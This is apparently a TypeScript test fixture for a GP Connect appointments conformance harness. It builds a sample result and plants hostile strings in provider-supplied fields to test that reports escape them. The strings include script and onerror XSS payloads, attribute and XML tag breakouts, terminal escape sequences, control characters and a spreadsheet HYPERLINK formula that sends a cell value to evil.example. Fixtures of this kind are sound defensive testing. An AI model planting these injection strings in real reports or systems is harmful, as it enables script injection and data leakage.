import { catalogue, type Requirement } from '../../../requirements/catalogue.js';
import type { Finding } from '../../../requirements/finding.js';
import type { Outcome } from '../../../requirements/outcome.js';
import type { AppliedWaiver, ConformanceResult, RequirementResult, WaiverUse } from '../../../reports/result.js';
import { outcomes } from '../../../reports/words.js';
import { sampleExchanges, sampleSessions } from './sample-traffic.js';

/** Texts that a hostile or careless provider may send; each would do harm in at least one report format. */
export const hostile = {
  script: '<script>window.attacked = true</script><img src=x onerror="window.attacked = true">',
  attribute: '" onmouseover="window.attacked = true" x="',
  closing: ']]></failure></testcase><!-- </style></script>',
  terminal: '\u001b[31mred\u001b[0m\u001b]0;new title\u0007\u001b[2J\u009b1mbold',
  markdown:
    '`code` **bold** | cell | [link](https://evil.example/) ![image](https://evil.example/x.png)\n# heading\n- item',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"see")',
  control: 'null\u0000 bell\u0007 unit\u001f bidi\u202e reversed\u2066 lone\ud800 not\uffff',
  long: 'x'.repeat(5_000),
} as const;

const sampleWaiver: AppliedWaiver = {
  requirement: 'READ-002',
  practices: ['A20047'],
  reason: 'known, mended in 4.2',
  owner: 'J. Smith',
  expires: '2027-01-31',
};

/** One waiver that holds, and one in which every text is hostile and which does not. */
const sampleWaivers: readonly WaiverUse[] = [
  { ...sampleWaiver, state: 'used', accepts: ['A20047'], idle: [] },
  {
    requirement: 'READ-003',
    reason: hostile.markdown,
    owner: hostile.script,
    expires: '2026-11-21',
    link: `javascript:${hostile.attribute}`,
    finding: { path: hostile.closing },
    state: 'expired',
    accepts: [],
    idle: ['A20047', 'B82617'],
  },
];

const troubles: Readonly<Record<string, Readonly<Record<string, Partial<RequirementResult>>>>> = {
  A20047: {
    'SLOT-010': failed({
      rule: 'slot.status',
      path: 'Bundle.entry[1].resource.status',
      message: 'The slot is not free',
      expected: 'free',
      actual: 'busy',
      exchange: 'x-1-0001',
      pointer: '/entry/1/resource/status',
      line: 24,
      column: 19,
    }),
    'BOOK-001': failed({
      rule: 'http.status',
      path: 'http',
      message: 'The answer has status 200',
      expected: 'status 201',
      actual: '200 (Appointment)',
      exchange: 'x-1-0002',
    }),
    'HTTP-005': warned({
      rule: 'header.missing',
      path: 'http',
      message: hostile.markdown,
      actual: hostile.formula,
      exchange: 'x-1-0001',
    }),
    'SEC-003': { outcome: 'error', reason: 'no answer within 30000 ms' },
    'SESS-002': { outcome: 'not-tested', reason: 'the first range already had slots, so nothing was repeated' },
    'READ-002': {
      outcome: 'waived',
      reason: 'waived until 2027-01-31 by J. Smith: known, mended in 4.2',
      waivers: [sampleWaiver],
    },
    'CANC-004': {
      outcome: 'attested',
      reason: 'shown by A. Jones on 2026-11-02: cancelled by hand (evidence/cancel.png, SHA-256 abababababab)',
      attestation: {
        met: true,
        by: 'A. Jones',
        date: '2026-11-02',
        statement: 'cancelled by hand',
        evidence: { file: 'evidence/cancel.png', sha256: 'ab'.repeat(32) },
      },
    },
  },
  B82617: {
    'SLOT-010': failed({
      rule: 'slot.status',
      path: 'Bundle.entry[0].resource.status',
      message: 'The slot is not free',
      expected: 'free',
      actual: hostile.script,
      exchange: 'x-2-0002',
    }),
    'SLOT-020': failed({
      rule: 'value.fixed',
      path: 'Bundle.entry[0].resource.id',
      message: hostile.terminal,
      expected: hostile.attribute,
      actual: hostile.control,
      exchange: 'x-2-0002',
    }),
    'ERR-002': failed({
      rule: 'outcome.missing',
      path: 'OperationOutcome',
      message: hostile.closing,
      expected: 'OperationOutcome',
      actual: hostile.long,
    }),
    'BOOK-002': { outcome: 'not-tested', reason: hostile.script },
    'BOOK-003': { outcome: 'not-tested', reason: 'no free slot from 2026-11-23 to 2027-01-03' },
    'BOOK-004': { outcome: 'not-tested', reason: 'no free slot from 2026-11-23 to 2027-01-03' },
    'READ-001': { outcome: 'error', reason: hostile.terminal },
  },
};

function failed(finding: Omit<Finding, 'severity'>): Partial<RequirementResult> {
  return { outcome: 'fail', findings: [{ severity: 'error', ...finding }, remark(finding.exchange)] };
}

function warned(finding: Omit<Finding, 'severity'>): Partial<RequirementResult> {
  return { outcome: 'warn', findings: [{ severity: 'warning', ...finding }] };
}

function remark(exchange: string | undefined): Finding {
  return {
    rule: 'profile.unknown',
    severity: 'information',
    path: 'Bundle.entry[2].resource.meta.profile[0]',
    message: 'The declared profile is not at hand, so it was not applied',
    ...(exchange !== undefined && { exchange }),
  };
}

function requirementAt(practice: string, requirement: Requirement): RequirementResult {
  const { id, level, area, interaction, statement, source } = requirement;
  const ordinary =
    requirement.testable === 'auto'
      ? passed(requirement)
      : { outcome: 'manual' as const, reason: requirement.testableWhy ?? 'needs a person' };
  return {
    id,
    level,
    area,
    interaction,
    statement,
    source,
    practice,
    tests: [],
    findings: [],
    ...ordinary,
    ...troubles[practice]?.[id],
  };
}

function passed({ level, area }: Requirement): Pick<RequirementResult, 'outcome' | 'reason' | 'tests'> {
  if (level === 'MAY') return { outcome: 'not-applicable', reason: 'not taken up', tests: [`${area}: as documented`] };
  return { outcome: 'pass', reason: null, tests: [`${area}: as documented`] };
}

/** How many requirements have each outcome. */
export function counted(requirements: readonly RequirementResult[]): Record<Outcome, number> {
  const entries = outcomes.map(
    (outcome) => [outcome, requirements.filter((one) => one.outcome === outcome).length] as const,
  );
  return Object.fromEntries(entries) as Record<Outcome, number>;
}

/**
 * A run of the whole catalogue at two practices and a federated session with a third: every outcome, hostile texts
 * wherever a provider's words can stand, a retry over two ranges, a failing session and a booking left in a diary.
 */
export function sampleResult(): ConformanceResult {
  const requirements = ['A20047', 'B82617'].flatMap((practice) =>
    [...catalogue.values()].map((requirement) => requirementAt(practice, requirement)),
  );
  const exchanges = sampleExchanges();
  return {
    schemaVersion: '1.0',
    harness: {
      name: 'gp-connect-appointments-conformance',
      version: '0.1.0',
      requirementSet: 'pfs-appointments-0.1',
      profileSet: '2020-05',
    },
    target: {
      name: 'Example supplier, integration',
      practices: [
        {
          odsCode: 'A20047',
          name: "Dr Legg's Surgery",
          baseUrl: 'https://provider.example/A20047/STU3/1',
          role: 'suite',
        },
        { odsCode: 'B82617', name: hostile.script, baseUrl: 'https://provider.example/B82617/STU3/1', role: 'suite' },
        {
          odsCode: 'C81004',
          name: 'Coxwold Surgery',
          baseUrl: 'https://provider.example/C81004/STU3/1',
          role: 'federation',
        },
      ],
    },
    run: {
      id: '20261122-154600-7f3a',
      startedAt: '2026-11-22T15:46:00.000Z',
      durationMs: 48_210,
      workers: 2,
      selection: {},
      exchanges: exchanges.length,
    },
    verdict: 'non-conformant',
    exitCode: 1,
    summary: counted(requirements),
    requirements,
    waivers: sampleWaivers,
    sessions: sampleSessions(),
    exchanges,
    bookings: {
      created: 3,
      cancelled: 2,
      left: [
        {
          practice: 'B82617',
          baseUrl: 'https://provider.example/B82617/STU3/1',
          appointment: '4711',
          description: 'Conformance 7f3a-12',
          start: '2026-12-07T09:10:00+00:00',
          reason: hostile.markdown,
        },
        {
          practice: 'A20047',
          baseUrl: 'https://provider.example/A20047/STU3/1',
          appointment: null,
          description: 'Conformance 7f3a-13',
          start: '2026-12-08T10:00:00+00:00',
          reason: 'the answer to the booking was lost',
        },
      ],
    },
  };
}
